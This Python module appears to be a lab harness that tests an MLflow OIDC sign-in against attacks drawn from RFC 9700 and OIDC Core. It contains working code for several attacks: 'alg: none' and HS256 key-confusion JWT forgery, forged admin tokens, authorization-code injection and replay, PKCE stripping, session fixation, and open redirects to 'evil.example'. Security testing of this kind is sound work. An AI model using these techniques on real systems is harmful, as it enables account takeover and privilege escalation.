"""Attacks on the sign-in flow, after the OAuth 2.0 Security Best Current Practice (RFC 9700) and OpenID
Connect Core's security considerations, each a plain HTTP client doing what an attacker would, and
answering in words what the attacker got: "no session", "signed in as alice@example.com", "HTTP 401".

``Target`` is what an attacker (or the test) knows: MLflow's and the IdP's addresses, and, to act as
MLflow's own client where a case needs a genuine token for MLflow, its client secret. The sign-ins are
lab7/security.py's: the IdP's forms over HTTP, stopped at a client's callback.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlencode, urlparse, urlunparse

import requests

from mlflow_labs.harness.net import wait_until
from mlflow_labs.lab7 import security

API = "/api/2.0/mlflow"
NO_SESSION = "no session"


@dataclass(frozen=True)
class Target:
    mlflow: str
    idp: str
    client_secret: str = field(repr=False)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def who(t: Target, session: str | None) -> str:
    """Whom MLflow takes a `session` cookie for: the user's name, or NO_SESSION."""
    if not session:
        return NO_SESSION
    r = requests.get(f"{t.mlflow}{API}/users/current", cookies={"session": session}, timeout=60)
    return f"signed in as {r.json()['username']}" if r.status_code == 200 else NO_SESSION


def mlflow_id_token(t: Target, person: str) -> str:
    """A genuine ID token the IdP issues ``person`` for MLflow (aud `mlflow`): the positive control."""
    return security.idp_tokens(t.idp, person, client_id="mlflow", redirect_uri=f"{t.mlflow}/callback",
                               client_secret=t.client_secret)["id_token"]


def _in_days(days: int) -> str:
    """An expiry the plugin accepts (it refuses one past its longest token lifetime, a year)."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + days * 86400))


def _claims(t: Target, person: str) -> dict:
    now = int(time.time())
    return {"iss": t.idp, "aud": "mlflow", "sub": person, "email": f"{person}@example.com", "name": person,
            "preferred_username": person, "groups": ["mlflow", "mlflow-admin"], "iat": now, "exp": now + 600}


# -- tokens ---------------------------------------------------------------------------------------
def other_audience(t: Target) -> str:
    """RFC 9700 4.10 (audience restriction): alice's genuine ID token for `reports` as a Bearer credential."""
    return f"HTTP {security.status(t.mlflow, bearer=security.idp_tokens(t.idp, 'alice')['id_token'])}"


def mints(t: Target, id_token: str, name: str) -> str:
    """``id_token`` as a Bearer credential asking MLflow for a long-lived access token (201 if issued)."""
    r = requests.post(f"{t.mlflow}{API}/users/current/tokens", headers={"Authorization": f"Bearer {id_token}"},
                      json={"name": f"{name}-{time.time_ns()}", "expiration": _in_days(30)}, timeout=60)
    return f"HTTP {r.status_code}"


def as_bearer(t: Target, id_token: str, name: str) -> dict[str, str]:
    """What MLflow answers ``id_token`` as a Bearer credential: an API read, and a request to mint a token."""
    return {"read": f"HTTP {security.status(t.mlflow, bearer=id_token)}", "mint": mints(t, id_token, name)}


def other_audience_mints(t: Target) -> str:
    """The same token asking MLflow for a long-lived access token."""
    return mints(t, security.idp_tokens(t.idp, "alice")["id_token"], "from-reports")


def other_issuer(t: Target, issuer: str) -> dict[str, str]:
    """RFC 8725 3.8, OIDC Core 3.1.3.7 (2): alice's genuine ID token for MLflow (aud `mlflow`, signed with a
    key MLflow trusts) from the IdP at ``issuer``; its `iss` besides (lab7/variants.py makes such an IdP)."""
    token = security.idp_tokens(issuer, "alice", client_id="mlflow", redirect_uri=f"{t.mlflow}/callback",
                                client_secret=t.client_secret)["id_token"]
    return {"iss": security.claims(token)["iss"], **as_bearer(t, token, "from-another-issuer")}


def expired_id_token(t: Target) -> dict[str, dict[str, str]]:
    """RFC 7519 4.1.4, OIDC Core 3.1.3.7 (9): alice's genuine ID token for MLflow used while fresh (the
    control) and again once the clock has passed its `exp`, waited for, not slept. mlflow-oidc-auth 11.0.2
    allows no leeway on a Bearer token (auth.py: its claims registry with leeway=0; joserfc refuses from
    the second `exp` on), so "passed" is `now >= exp`. Short-lived tokens need an IdP set to issue them."""
    token = mlflow_id_token(t, "alice")
    exp = security.claims(token)["exp"]
    fresh = as_bearer(t, token, "from-a-fresh-id-token")
    fresh["seconds left"] = f"{exp - time.time():.0f}"   # negative: the control came too late to count
    wait_until(lambda: (True, "past exp") if time.time() >= exp else (None, f"{exp - time.time():.0f} s before exp"),
               timeout=max(0, exp - time.time()) + 60, interval=0.5, what="the clock to pass the ID token's exp")
    return {"fresh": fresh, "expired": as_bearer(t, token, "from-an-expired-id-token")}


def forged_signature(t: Target) -> str:
    """OIDC Core 16.3: every claim the IdP would write for the admin, signed with the attacker's own key."""
    return f"HTTP {security.status(t.mlflow, bearer=security.forged_id_token(t.idp, 'mlflow', 'admin', ['mlflow', 'mlflow-admin']))}"


def alg_none(t: Target) -> str:
    """RFC 8725 2.1: the admin's claims with `"alg": "none"` and no signature."""
    token = f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{_b64(json.dumps(_claims(t, 'admin')).encode())}."
    return f"HTTP {security.status(t.mlflow, bearer=token)}"


def key_confusion(t: Target) -> str:
    """RFC 8725 2.1: HS256 "signed" with the IdP's PUBLIC RSA key (from its JWKS) as the HMAC secret."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicNumbers
    jwk = requests.get(f"{t.idp}/jwks", timeout=60).json()["keys"][0]
    num = {k: int.from_bytes(base64.urlsafe_b64decode(jwk[k] + "=" * (-len(jwk[k]) % 4)), "big") for k in ("n", "e")}
    pem = RSAPublicNumbers(num["e"], num["n"]).public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    signing_input = (f"{_b64(json.dumps({'alg': 'HS256', 'typ': 'JWT', 'kid': jwk['kid']}).encode())}."
                     f"{_b64(json.dumps(_claims(t, 'admin')).encode())}")
    token = f"{signing_input}.{_b64(hmac.new(pem, signing_input.encode(), hashlib.sha256).digest())}"
    return f"HTTP {security.status(t.mlflow, bearer=token)}"


# -- the authorization code ---------------------------------------------------------------------
def code_injection(t: Target) -> str:
    """RFC 9700 4.5: alice's authorization code, caught before MLflow redeemed it, sent by the attacker to
    MLflow's /callback inside the attacker's OWN login (his browser's state, so the state check passes)."""
    _, victims = security.code_in_hand(t.mlflow, "alice")
    attacker = requests.Session()
    r = attacker.get(f"{t.mlflow}/login", allow_redirects=False, timeout=60)
    query = {k: v[0] for k, v in parse_qs(urlparse(victims).query).items()}
    query["state"] = parse_qs(urlparse(r.headers["location"]).query)["state"][0]
    attacker.get(f"{t.mlflow}/callback?{urlencode(query)}", allow_redirects=False, timeout=60)
    return who(t, attacker.cookies.get("session"))


def pkce_removed(t: Target) -> str:
    """RFC 9700 4.8 (PKCE downgrade): MLflow's authorization request with its code_challenge stripped on the
    way to the IdP; the code comes back to MLflow in the same browser."""
    browser = requests.Session()
    r = browser.get(f"{t.mlflow}/login", allow_redirects=False, timeout=60)
    where = urlparse(r.headers["location"])
    query = {k: v[0] for k, v in parse_qs(where.query).items() if k not in ("code_challenge", "code_challenge_method")}
    jar, callback = security.sign_in_at_idp(urlunparse(where._replace(query=urlencode(query))), "alice",
                                            f"{t.mlflow}/callback")
    browser.get(callback, allow_redirects=False, timeout=60)
    return who(t, browser.cookies.get("session"))


def code_replay(t: Target) -> dict[str, str]:
    """RFC 9700 4.5, OIDC Core 3.1.3.2: a callback URL (code and state) replayed once MLflow redeemed it, by
    an attacker who read it (a fresh browser) and in the victim's own browser; the first use: the control."""
    victim, callback = security.code_in_hand(t.mlflow, "alice")
    victim.get(callback, allow_redirects=False, timeout=60)
    first = victim.cookies.get("session")
    attacker = requests.Session()
    attacker.get(callback, allow_redirects=False, timeout=60)
    victim.cookies.clear()
    victim.get(callback, allow_redirects=False, timeout=60)
    return {"first use": who(t, first), "replayed elsewhere": who(t, attacker.cookies.get("session")),
            "replayed in the same browser": who(t, victim.cookies.get("session"))}


# -- the session and the redirects -------------------------------------------------------------------
def session_fixation(t: Target) -> dict[str, str]:
    """OWASP session fixation: the attacker's pre-login `session` cookie, planted in the victim's browser,
    is still his after she signs in with it: is it signed in as her?"""
    browser = requests.Session()
    r = browser.get(f"{t.mlflow}/login", allow_redirects=False, timeout=60)
    planted = browser.cookies.get("session")
    _, callback = security.sign_in_at_idp(r.headers["location"], "alice", f"{t.mlflow}/callback")
    browser.get(callback, allow_redirects=False, timeout=60)
    return {"planted cookie": who(t, planted), "the victim's cookie": who(t, browser.cookies.get("session"))}


OPEN_REDIRECTS = ("http://evil.example/", "//evil.example/", "/\\evil.example/", "https:evil.example")


def open_redirect(t: Target) -> dict[str, str]:
    """RFC 9700 4.11: /login?next=<somewhere else>; where the browser is sent once signed in (the origin),
    and a same-site `next` (the control: `next` is honoured)."""
    out = {}
    for nxt in (*OPEN_REDIRECTS, "/#/experiments/0"):
        browser = requests.Session()
        r = browser.get(f"{t.mlflow}/login", params={"next": nxt}, allow_redirects=False, timeout=60)
        _, callback = security.sign_in_at_idp(r.headers["location"], "alice", f"{t.mlflow}/callback")
        landed = browser.get(callback, allow_redirects=False, timeout=60).headers.get("location", "")
        out[nxt] = landed if landed.startswith("/") and not landed.startswith("//") else \
            f"{urlparse(landed).scheme}://{urlparse(landed).netloc}"
    return out
